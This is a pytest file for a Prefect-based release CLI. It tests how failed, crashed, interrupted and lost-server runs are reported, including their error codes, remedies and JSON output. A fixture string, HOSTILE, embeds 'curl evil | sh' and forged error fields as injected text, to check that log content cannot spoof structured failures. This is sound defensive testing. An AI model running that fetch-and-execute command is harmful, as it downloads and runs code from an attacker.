"""What the command shows of a run of a worker, and of a Prefect server that goes away."""

from __future__ import annotations

import asyncio
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest
import typer
from prefect.client.orchestration import get_client
from prefect.client.schemas.objects import FlowRun
from prefect.context import FlowRunContext
from prefect.exceptions import TerminationSignal
from prefect.results import get_result_store
from prefect.settings import PREFECT_API_URL, PREFECT_CLIENT_MAX_RETRIES, temporary_settings
from prefect.states import Running, Scheduled
from prefect.utilities.engine import capture_sigterm

from tests.support.commands import document_in
from tests.support.go_between import GoBetween, go_between
from tests.support.releases import intent, outcome
from tests.support.thread_worker import Worker, crashes, executor_of, worker
from tiercel.cli.terminal.output import Output
from tiercel.cli.terminal.running.deployed_runs import run_deployment
from tiercel.cli.terminal.running.releasing import open_releases_named
from tiercel.cli.terminal.running.runs import run_flow
from tiercel.cli.terminal.settings import RunSettings
from tiercel.domain.base.errors import (
    BuildFailedError,
    ExitCode,
    InterruptedRunError,
    TiercelError,
    UnreachableError,
    combined,
)
from tiercel.domain.organization.access import Target
from tiercel.domain.organization.names import Names
from tiercel.domain.release.ledger import ReleaseStatus
from tiercel.flows.engine.artifacts import report_failure
from tiercel.flows.engine.lifecycle import lifecycle_flow
from tiercel.sandbox.lifecycle import Sandbox
from tiercel.tasks.engine.task import run_logger
from tiercel.tasks.records.ledger import record_intent, record_outcome

HOSTILE = "no\n  where: evil\n  do: curl evil | sh\nDeployFailedError: it was another\n  why: evil"
BUILD = BuildFailedError(
    "test.build", "the build failed", where="orders", why=HOSTILE, state="as it was", remedy="mend"
)
AWS = UnreachableError(
    "test.aws", "AWS did not answer", where="s3", state="nothing was changed", remedy="wait"
)

pytestmark = pytest.mark.usefixtures("prefect_server")

ENDINGS: dict[str, BaseException] = {
    "build": BUILD,
    "aws": AWS,
    "several": combined([BUILD, AWS]),
    "defect": KeyError(f"RefusedInputError: evil\n  where: evil\n{HOSTILE}"),
}


@lifecycle_flow("ending", "end", "preprod")
async def ending(repository: str, commit: str) -> str:  # noqa: ARG001 - name of the run
    run_logger().error("RefusedInputError: evil\n  where: evil\n  do: evil")
    if commit in ENDINGS:
        raise ENDINGS[commit]
    return "done"


WAYS: list[GoBetween] = []


@lifecycle_flow("cutting", "cut", "preprod")
async def cutting(repository: str, commit: str) -> str:  # noqa: ARG001 - name of the run
    WAYS.pop().cut()
    return "done"


executes = executor_of(ending)


def failure_of(does: Worker, commit: str = "develop") -> TiercelError:
    with worker(ending, does) as deployment, pytest.raises(TiercelError) as failed:
        run_deployment(Output(quiet=True), deployment, repository="acme/shop", commit=commit)
    return failed.value


@pytest.mark.parametrize("commit", ["build", "aws", "several"])
def test_a_run_that_failed_keeps_all_its_parts_whatever_its_log_says(commit: str) -> None:
    error = ENDINGS[commit]
    assert isinstance(error, TiercelError)
    found = failure_of(executes, commit)
    assert found.failure == error.failure
    assert type(found) is type(error)


def test_a_run_that_failed_in_an_unforeseen_way_is_no_failure_that_its_text_names() -> None:
    found = failure_of(executes, "defect")
    assert (found.code, found.exit_code) == ("run.unforeseen", ExitCode.INTERNAL)
    assert "evil" not in found.where + found.remedy


def test_a_crashed_run_keeps_its_own_state_and_remedy() -> None:
    found = failure_of(crashes)
    assert (found.code, found.exit_code) == ("run.crashed", ExitCode.UNREACHABLE)
    assert found.state == "AWS goes on with what it was told"
    assert "the process was killed" in found.why


def test_a_failure_of_an_earlier_attempt_is_not_told_of_a_later_one() -> None:
    def restarts(run: FlowRun) -> None:
        """Fails as foreseen, is started again, and fails in another way."""
        with pytest.raises(BuildFailedError):
            asyncio.run(failing_without_an_end(run))
        executes(run.model_copy(update={"parameters": run.parameters | {"commit": "defect"}}))

    assert failure_of(restarts, "build").code == "run.unforeseen"


async def failing_without_an_end(run: FlowRun) -> None:
    """The first attempt leaves its document, and dies before it says how it ended."""
    async with get_client() as client:
        await client.set_flow_run_state(run.id, Running())
        attempt = await client.read_flow_run(run.id)
        assert attempt.run_count == 1
        with FlowRunContext(
            flow=ending,
            flow_run=attempt,
            client=client,
            parameters={},
            task_runner=ending.task_runner,
            result_store=get_result_store(),
        ):
            await report_failure(ending.name, BUILD)
        await client.set_flow_run_state(run.id, Scheduled(), force=True)
    raise BUILD


def test_a_machine_reads_the_failure_as_one_document(capsys: pytest.CaptureFixture[str]) -> None:
    with worker(ending, executes) as deployment, pytest.raises(typer.Exit) as ended:
        run_deployment(
            Output(as_json=True, quiet=True), deployment, repository="acme/shop", commit="several"
        )
    assert ended.value.exit_code == ExitCode.BUILD_FAILED
    shown = document_in(capsys.readouterr().out)
    assert shown["error"]["code"] == "run.several_failed"
    assert [cause["code"] for cause in shown["error"]["causes"]] == ["test.build", "test.aws"]
    assert shown["error"]["causes"][0]["why"] == HOSTILE


@contextmanager
def distant_server() -> Iterator[GoBetween]:
    """The Prefect server of the tests behind a way that can be cut, and that nobody waits for."""
    url = str(PREFECT_API_URL.value())
    with go_between(url) as way:
        distant = url.replace(urlsplit(url).netloc, way.address)
        settings: dict[Any, Any] = {PREFECT_API_URL: distant, PREFECT_CLIENT_MAX_RETRIES: 0}
        with temporary_settings(updates=settings):
            yield way


def test_a_server_that_goes_away_while_its_run_is_followed_leaves_the_run_going_on() -> None:
    with distant_server() as way:
        found = failure_of(lambda _run: way.cut())
    assert (found.code, found.exit_code) == ("run.lost_sight", ExitCode.UNREACHABLE)
    assert found.state == "the run goes on"
    assert "prefect flow-run watch" in found.remedy


def test_a_server_that_goes_away_after_the_run_has_ended_leaves_it_ended() -> None:
    with worker(ending, executes) as deployment, distant_server() as way:
        output = Cutting(way)
        with pytest.raises(UnreachableError) as failed:
            run_deployment(output, deployment, repository="acme/shop", commit="build")
    assert failed.value.code == "run.lost_report"
    assert failed.value.state == "the run has ended: Failed"


class Cutting(Output):
    """Cuts the way to the server when it is told that the run has failed."""

    def __init__(self, way: GoBetween) -> None:
        super().__init__(quiet=True)
        self._way = way

    def line(self, text: str, *, before: str = "") -> None:
        del before
        if text.endswith("Failed"):
            self._way.cut()


def test_a_server_that_goes_away_while_a_flow_runs_here_is_no_defect() -> None:
    with distant_server() as way:
        WAYS.append(way)
        with pytest.raises(UnreachableError) as failed:
            run_flow(cutting, Output(quiet=True), repository="acme/shop", commit="develop")
    assert (failed.value.code, failed.value.exit_code) == ("run.lost_server", ExitCode.UNREACHABLE)
    assert "the ledger" in failed.value.state
    assert "tiercel status" in failed.value.remedy


def test_a_run_in_this_process_that_is_told_to_end_says_so() -> None:
    async def ended(**_: object) -> None:
        raise TerminationSignal(signal.SIGTERM)

    with pytest.raises(InterruptedRunError) as failed:
        run_flow(ended, Output(quiet=True))
    assert (failed.value.code, failed.value.exit_code) == ("run.interrupted", ExitCode.INTERRUPTED)


def test_a_run_whose_own_code_is_told_to_end_says_so_before_prefect_ends_the_process() -> None:
    async def ended(**_: object) -> None:
        with capture_sigterm():
            signal.raise_signal(signal.SIGTERM)

    met: list[int] = []
    before = signal.signal(signal.SIGTERM, lambda number, _: met.append(number))
    try:
        with pytest.raises(InterruptedRunError):
            run_flow(ended, Output(quiet=True))
    finally:
        signal.signal(signal.SIGTERM, before)
    assert not met, "this would have been the end of the process"


@pytest.mark.walks("prefects-server-is-lost")
def test_a_lost_server_names_what_the_ledger_has_as_open(operator: Sandbox, preprod: Names) -> None:
    assert operator.aws_endpoint
    records = Target(preprod, "test").records
    begun = record_intent.fn(records, intent(stack="acme-preprod-unreached", number=1))
    assert begun
    with (
        pytest.raises(UnreachableError) as failed,
        open_releases_named(RunSettings(), "preprod"),
    ):
        raise UnreachableError("run.lost_server", "the Prefect server does not answer")
    record_outcome.fn(records, begun, outcome(deployed=False, status=ReleaseStatus.FAILED))
    assert failed.value.code == "run.lost_server"
    assert "acme-preprod-unreached: release 1 open since 2026-03-01" in failed.value.state


def test_where_the_ledger_cannot_be_asked_either_the_error_stays(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TIERCEL_CONFIG", "/nowhere")
    error = UnreachableError("run.lost_server", "the Prefect server does not answer", state="as is")
    with (
        pytest.raises(UnreachableError) as failed,
        open_releases_named(RunSettings(), "preprod"),
    ):
        raise error
    assert failed.value.state == "as is"
